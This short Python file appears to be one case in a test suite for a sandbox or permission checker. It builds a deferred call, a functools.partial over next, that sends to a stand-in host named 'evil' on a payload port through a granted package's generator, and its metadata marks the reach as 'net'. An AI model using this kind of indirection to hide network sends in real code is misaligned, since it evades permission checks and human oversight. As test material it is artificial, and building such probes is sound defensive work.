"""A partial() that gives what a granted package's generator does next."""
CATEGORY = "deferred"
REACH = "net"
BEYOND = """It is the generator in another form, as its ``__next__`` is: see
generator_of_granted.  "$walk": "strict" judges who called it, too."""

import functools

from good import later

from . import payload


def make():
    return functools.partial(next, later.sending("evil", payload.PORT))
